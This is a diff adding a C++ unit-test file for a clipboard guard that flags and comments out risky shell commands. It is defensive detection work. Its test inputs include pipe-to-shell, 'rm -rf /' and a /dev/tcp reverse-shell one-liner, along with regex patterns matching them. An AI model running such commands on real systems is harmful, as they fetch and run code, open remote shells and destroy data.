@@ -1,0 +1,241 @@
+// SPDX-License-Identifier: GPL-3.0-or-later
+#include <gtest/gtest.h>
+
+#include "core/clipboard/CommandGuard.h"
+#include "core/clipboard/RuleBundle.h"
+#include "tests/clipboard/GuardTestSupport.h"
+
+#include <string>
+#include <thread>
+#include <vector>
+
+namespace tessaril {
+namespace {
+
+using testing::TemporaryFolder;
+using testing::writeFile;
+
+std::string rulesFile(const std::string& version, const std::vector<RuleDefinition>& rules) {
+    RuleBundle bundle{version, rules};
+    return bundle.toJson().dump();
+}
+
+RuleDefinition rule(std::string id, CommandRiskSeverity severity, std::string pattern) {
+    std::string summary = "summary of " + id;
+    return {std::move(id), "bash", severity, std::move(pattern), std::move(summary), "explanation"};
+}
+
+CommandGuard guardWith(const std::vector<RuleDefinition>& rules, const std::string& version = "1.0") {
+    const auto data = rulesFile(version, rules);
+    return CommandGuard::fromRulesData(data);
+}
+
+std::vector<std::string> ids(const CommandRiskResult& result) {
+    std::vector<std::string> out;
+    for (const auto& finding : result.findings)
+        out.push_back(finding.id);
+    return out;
+}
+
+TEST(CommandGuard, ContinuationsAreJoinedAndTheCommandTrimmed) {
+    const auto guard = guardWith({rule("pipe", CommandRiskSeverity::warning, "curl [^ ]+ \\| sh")});
+    for (const char* text : {"curl x | sh", "curl\\\nx | sh", "curl\\\r\nx | sh", "curl`\nx | sh", "curl`\r\nx | sh",
+                             "  \n\tcurl x | sh \r\n "}) {
+        const auto result = guard.analyze(text);
+        ASSERT_TRUE(result.has_value()) << text;
+        EXPECT_EQ(result->findings.at(0).matchedText, "curl x | sh") << text;
+    }
+    EXPECT_EQ(guard.analyze("  curl\\\nx | sh\n")->command, "curl x | sh");
+    // A bare line break is not a continuation.
+    EXPECT_FALSE(guard.analyze("curl\nx | sh").has_value());
+    EXPECT_EQ(CommandGuard::normalizedCommand("a\\\\\nb"), "a\\ b");
+
+    EXPECT_FALSE(guard.analyze("").has_value());
+    EXPECT_FALSE(guard.analyze(" \n\t\r\n \xE2\x80\x83").has_value());
+}
+
+TEST(CommandGuard, ThresholdFiltersBySeverity) {
+    const auto guard = guardWith({rule("note", CommandRiskSeverity::info, "sudo"),
+                                  rule("pipe", CommandRiskSeverity::warning, "\\| sh"),
+                                  rule("wipe", CommandRiskSeverity::danger, "rm -rf /")});
+    EXPECT_FALSE(guard.analyze("curl x | sh", CommandRiskSeverity::danger).has_value());
+    const auto atWarning = guard.analyze("curl x | sh", CommandRiskSeverity::warning);
+    ASSERT_TRUE(atWarning.has_value());
+    EXPECT_EQ(ids(*atWarning), std::vector<std::string>{"pipe"});
+    EXPECT_EQ(atWarning->severity, CommandRiskSeverity::warning);
+
+    EXPECT_FALSE(guard.analyze("sudo ls").has_value());
+    const auto everything = guard.analyze("sudo curl x | sh; sudo rm -rf /", CommandRiskSeverity::info);
+    ASSERT_TRUE(everything.has_value());
+    EXPECT_EQ(ids(*everything), (std::vector<std::string>{"wipe", "pipe", "note"}));
+    EXPECT_EQ(everything->severity, CommandRiskSeverity::danger);
+    EXPECT_EQ(guard.analyze("sudo rm -rf /", CommandRiskSeverity::danger)->findings.size(), 1U);
+}
+
+TEST(CommandGuard, FindingsAreOrderedBySeverityThenId) {
+    const auto guard =
+        guardWith({rule("b", CommandRiskSeverity::warning, "x"), rule("a", CommandRiskSeverity::warning, "x"),
+                   rule("z", CommandRiskSeverity::danger, "x"), rule("c", CommandRiskSeverity::info, "x")});
+    const auto result = guard.analyze("x", CommandRiskSeverity::info);
+    ASSERT_TRUE(result.has_value());
+    EXPECT_EQ(ids(*result), (std::vector<std::string>{"z", "a", "b", "c"}));
+    EXPECT_EQ(result->primaryFinding()->id, "z");
+    EXPECT_EQ(result->rulesVersion, "1.0");
+    const auto& first = result->findings.front();
+    EXPECT_EQ(first.platform, "bash");
+    EXPECT_EQ(first.summary, "summary of z");
+    EXPECT_EQ(first.explanation, "explanation");
+}
+
+TEST(CommandGuard, LongMatchesAreCutByUserPerceivedCharacters) {
+    const auto guard = guardWith({rule("long", CommandRiskSeverity::warning, "X.*")});
+    const auto cut = guard.analyze("X" + std::string(199, 'a'));
+    ASSERT_TRUE(cut.has_value());
+    EXPECT_EQ(cut->findings[0].matchedText, "X" + std::string(156, 'a') + "...");
+    EXPECT_EQ(cut->command.size(), 200U);
+
+    const std::string exactly160 = "X" + std::string(159, 'a');
+    EXPECT_EQ(guard.analyze(exactly160)->findings[0].matchedText, exactly160);
+    EXPECT_EQ(guard.analyze(exactly160 + "a")->findings[0].matchedText, "X" + std::string(156, 'a') + "...");
+
+    // "e" + combining acute accent is one character on screen but three bytes: 160 of them are not cut,
+    // 161 are cut after 157 whole clusters, never inside one.
+    std::string accented = "X";
+    for (int i = 0; i < 159; ++i)
+        accented += "e\xCC\x81";
+    EXPECT_EQ(guard.analyze(accented)->findings[0].matchedText, accented);
+    const auto accentedCut = guard.analyze(accented + "e\xCC\x81")->findings[0].matchedText;
+    EXPECT_EQ(accentedCut, accented.substr(0, 1 + 156 * 3) + "...");
+
+    // The fragment is trimmed before it is measured.
+    const auto trimmed = guardWith({rule("spaced", CommandRiskSeverity::warning, "a\\s+")}).analyze("a    b");
+    EXPECT_EQ(trimmed->findings[0].matchedText, "a");
+}
+
+TEST(CommandGuard, SizeCapAndOwnOutputAreNotExamined) {
+    const auto guard = guardWith({rule("any", CommandRiskSeverity::warning, "rm")});
+    std::string atCap = "rm " + std::string(CommandGuard::maximumCommandBytes - 3, 'x');
+    EXPECT_TRUE(guard.analyze(atCap).has_value());
+    EXPECT_FALSE(guard.analyze(atCap + "x").has_value());
+    // Trimming happens first: padding does not push a command over the cap.
+    EXPECT_TRUE(guard.analyze(std::string(40000, ' ') + "rm -rf /" + std::string(40000, '\n')).has_value());
+    // Ten megabytes are refused without examining them.
+    EXPECT_FALSE(guard.analyze(std::string(10 * 1024 * 1024, 'r') + "m").has_value());
+
+    const auto neutralized = CommandGuard::neutralizedCommand("rm -rf /");
+    EXPECT_FALSE(guard.analyze(neutralized).has_value());
+    EXPECT_FALSE(guard.analyze("\n  " + neutralized).has_value());
+    EXPECT_TRUE(guard.analyze("echo hi\n" + neutralized).has_value());
+}
+
+TEST(CommandGuard, OddBytesNeverBreakTheAnalysis) {
+    const auto guard = guardWith({rule("wipe", CommandRiskSeverity::danger, "rm -rf /")});
+    const std::string withNul("rm -rf /\0 trailing", 18);
+    ASSERT_TRUE(guard.analyze(withNul).has_value());
+    EXPECT_EQ(guard.analyze(withNul)->command, withNul);
+    // A stray invalid byte must not switch the guard off, and the verdict must stay valid UTF-8 for JSON.
+    const auto invalid = guard.analyze("\xFF\xFE rm -rf / \xC3");
+    ASSERT_TRUE(invalid.has_value());
+    EXPECT_EQ(invalid->command, "\xEF\xBF\xBD\xEF\xBF\xBD rm -rf / \xEF\xBF\xBD");
+    EXPECT_NO_THROW((void)invalid->toJson().dump());
+}
+
+TEST(CommandGuard, BrokenRulesFilesAndPatterns) {
+    const auto guard = guardWith(
+        {rule("bad", CommandRiskSeverity::danger, "(unclosed"), rule("good", CommandRiskSeverity::danger, "rm")});
+    ASSERT_EQ(guard.rules().size(), 1U);
+    EXPECT_EQ(guard.rules()[0].definition.id, "good");
+    EXPECT_EQ(ids(*guard.analyze("rm")), std::vector<std::string>{"good"});
+
+    for (const char* data : {"", "{", R"({"currentVersion":"1","rules":[{"id":"a","platform":"p","severity":"urgent",
+                             "pattern":"rm","summary":"s","explanation":"e"}]})"}) {
+        const auto broken = CommandGuard::fromRulesData(std::string_view(data));
+        EXPECT_EQ(broken.rulesVersion(), "unavailable");
+        EXPECT_TRUE(broken.rules().empty());
+        EXPECT_FALSE(broken.analyze("rm -rf /", CommandRiskSeverity::info).has_value());
+    }
+    EXPECT_EQ(CommandGuard::fromRulesData(std::nullopt).rulesVersion(), "unavailable");
+}
+
+TEST(CommandGuard, NeutralizedTextCommentsEveryLine) {
+    const std::string header =
+        "# Tessaril neutralized a risky command copied to the clipboard.\n# Review before running anything below.\n";
+    EXPECT_EQ(CommandGuard::neutralizedCommand("  rm -rf / \n"), header + "# rm -rf /");
+    EXPECT_EQ(CommandGuard::neutralizedCommand("a\r\n\nb \\\nc"), header + "# a\r\n# \n# b  c");
+    EXPECT_EQ(CommandGuard::neutralizedCommand(""), header + "# ");
+}
+
+TEST(CommandGuard, RuleBundleVersionNeedsAVisibleVersion) {
+    EXPECT_EQ(CommandGuard::ruleBundleVersion(rulesFile(" 2.0\n", {})), " 2.0\n");
+    EXPECT_FALSE(CommandGuard::ruleBundleVersion(rulesFile(" \n\t", {})).has_value());
+    EXPECT_FALSE(CommandGuard::ruleBundleVersion("{}").has_value());
+}
+
+class CommandGuardFiles : public ::testing::Test {
+protected:
+    TemporaryFolder folder;
+    FixedPaths paths{folder.path()};
+    std::filesystem::path root = folder.path() / "data" / "com.orvellelabs.tessaril";
+    std::filesystem::path active = root / "rules" / "active" / "command-guard-rules.json";
+    std::filesystem::path previous = root / "rules" / "previous" / "command-guard-rules.json";
+    std::filesystem::path legacy = root / "command-guard" / "active" / "command-guard-rules.json";
+    std::filesystem::path bundleDirectory = folder.path() / "bundle";
+};
+
+TEST_F(CommandGuardFiles, InstalledLocationPrefersActiveThenPreviousThenLegacy) {
+    EXPECT_EQ(CommandGuard::defaultInstalledRulesURL(paths), legacy);
+    writeFile(previous, rulesFile("2", {}));
+    EXPECT_EQ(CommandGuard::defaultInstalledRulesURL(paths), previous);
+    writeFile(active, rulesFile("  ", {}));
+    EXPECT_EQ(CommandGuard::defaultInstalledRulesURL(paths), previous);
+    writeFile(active, "not json");
+    EXPECT_EQ(CommandGuard::defaultInstalledRulesURL(paths), previous);
+    writeFile(active, rulesFile("3", {}));
+    EXPECT_EQ(CommandGuard::defaultInstalledRulesURL(paths), active);
+}
+
+TEST_F(CommandGuardFiles, LoadsInstalledFileElseShippedFile) {
+    writeFile(bundleDirectory / "command-guard-rules.json",
+              rulesFile("shipped", {rule("shipped", CommandRiskSeverity::danger, "rm")}));
+    const ResourceBundle bundle(bundleDirectory);
+    EXPECT_EQ(CommandGuard(&bundle, &paths).rulesVersion(), "shipped");
+    EXPECT_EQ(CommandGuard(nullptr, &paths).rulesVersion(), "unavailable");
+
+    writeFile(legacy, rulesFile("legacy", {rule("legacy", CommandRiskSeverity::danger, "rm")}));
+    EXPECT_EQ(CommandGuard(&bundle, &paths).rulesVersion(), "legacy");
+    writeFile(active, rulesFile("active", {rule("installed", CommandRiskSeverity::danger, "rm")}));
+    const CommandGuard installed(&bundle, &paths);
+    EXPECT_EQ(installed.rulesVersion(), "active");
+    EXPECT_EQ(installed.analyze("rm")->findings[0].id, "installed");
+
+    // An explicit file wins; when it does not decode, the shipped file is used.
+    const auto explicitFile = folder.path() / "mine.json";
+    writeFile(explicitFile, rulesFile("mine", {}));
+    EXPECT_EQ(CommandGuard(&bundle, &paths, explicitFile).rulesVersion(), "mine");
+    writeFile(explicitFile, R"({"currentVersion":"x"})");
+    EXPECT_EQ(CommandGuard(&bundle, &paths, explicitFile).rulesVersion(), "shipped");
+    // A shipped file that does not decode leaves the guard without rules.
+    writeFile(bundleDirectory / "command-guard-rules.json", "garbage");
+    EXPECT_EQ(CommandGuard(&bundle, nullptr, explicitFile).rulesVersion(), "unavailable");
+}
+
+TEST(CommandGuard, SharedGuardAnswersFromSeveralThreads) {
+    const auto guard = testing::shippedGuard();
+    std::vector<std::thread> threads;
+    std::vector<int> flagged(4, 0);
+    for (std::size_t t = 0; t < flagged.size(); ++t) {
+        threads.emplace_back([&guard, &flagged, t] {
+            for (int i = 0; i < 50; ++i) {
+                if (guard.analyze("bash -i >& /dev/tcp/10.0.0.1/4242 0>&1")) ++flagged[t];
+                if (guard.analyze("git status")) --flagged[t];
+            }
+        });
+    }
+    for (auto& thread : threads)
+        thread.join();
+    for (int count : flagged)
+        EXPECT_EQ(count, 50);
+}
+
+}  // namespace
+}  // namespace tessaril
